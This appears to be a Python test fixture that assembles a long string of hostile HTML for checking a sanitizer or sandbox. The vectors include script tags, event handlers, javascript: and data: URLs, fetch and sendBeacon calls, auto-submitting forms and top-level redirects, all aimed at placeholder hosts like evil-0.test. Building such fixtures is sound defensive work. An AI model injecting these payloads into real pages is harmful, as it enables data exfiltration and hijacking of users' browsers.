"""A page that tries every way out there is: to load, to send, to lead away. Each way has a host of its own."""

from itertools import count

_hosts = (f"evil-{number}.test" for number in count())


def _at(path: str = "x") -> str:
    return f"http://{next(_hosts)}/{path}"


_LOADS = f"""
<base href="{_at()}">
<meta http-equiv="refresh" content="1;url={_at()}">
<link rel="stylesheet" href="{_at("a.css")}"><link rel="preload" as="image" href="{_at()}"><link rel="prefetch" href="{_at()}">
<link rel="dns-prefetch" href="{_at()}"><link rel="preconnect" href="{_at()}"><link rel="icon" href="{_at()}">
<link rel="modulepreload" href="{_at("m.js")}"><link rel="prerender" href="{_at()}"><link rel="manifest" href="{_at()}">
<style>@import "{_at("b.css")}"; @font-face {{ font-family: x; src: url({_at("f.woff")}) }} body {{ background: url({_at()}); font-family: x }}</style>
<p style="background-image:url({_at()});list-style-image:url('{_at()}');content:url({_at()})">背景</p>
<img src="{_at()}" srcset="{_at()} 2x"><img src="//{next(_hosts)}/x"><picture><source srcset="{_at()}"><img src="{_at()}"></picture>
<svg><image href="{_at()}"/><use href="{_at("s.svg#a")}"/><script href="{_at()}"></script><foreignObject><img src="{_at()}"></foreignObject></svg>
<object data="{_at()}"></object><embed src="{_at()}"><iframe src="{_at()}"></iframe><iframe srcdoc="<img src='{_at()}'>"></iframe>
<frameset><frame src="{_at()}"></frameset><video src="{_at("v.mp4")}" poster="{_at()}" autoplay></video><audio src="{_at("a.mp3")}" autoplay></audio>
<video><source src="{_at()}"><track src="{_at()}" default></video><input type="image" src="{_at()}"><body background="{_at()}">
<table background="{_at()}"><tr><td background="{_at()}">格</td></tr></table><script src="{_at("s.js")}"></script><script type="module" src="{_at("m.js")}"></script>
<script>new Image().src="{_at()}"; fetch("{_at()}"); navigator.sendBeacon("{_at()}"); new WebSocket("ws://{next(_hosts)}/"); new EventSource("{_at()}");
window.open("{_at()}"); top.location="{_at()}"; parent.document.body.innerHTML=""; navigator.serviceWorker.register("/sw.js"); location="{_at()}"</script>
<img src=x onerror="top.location='{_at()}'"><svg onload="fetch('{_at()}')"></svg><details open ontoggle="fetch('{_at()}')"><summary>开</summary></details>
<input autofocus onfocus="fetch('{_at()}')"><form id="f" action="{_at()}" method="post"><input name="a" value="b"></form><script>document.getElementById("f").submit()</script>
<math><mtext><table><mglyph><style><img src="{_at()}"></style></mglyph></table></mtext></math><noscript><img src="{_at()}"></noscript>
<!--[if IE]><img src="{_at()}"><![endif]--><template><img src="{_at()}"></template>
"""
_LINKS = f"""
<a href="{_at()}">去</a><a href="{_at()}" target="_top">顶</a><a href="{_at()}" target="_blank">新</a><a href="{_at()}" target="_parent">父</a>
<a href="javascript:top.location='{_at()}'">脚本</a><a href="{_at()}" ping="{_at()}">探</a><a href="{_at()}" download>下</a>
<a href="data:text/html,<script>top.location='{_at()}'</script>" target="_top">数据</a><map name="m"><area href="{_at()}" shape="default"></map><img usemap="#m" alt="图">
<form action="{_at()}" target="_top"><button>送</button></form><form action="javascript:alert(1)"><button formaction="{_at()}" formtarget="_top">改送</button></form>
"""
HOSTILE = (_LINKS + _LOADS).replace("\n", " ")
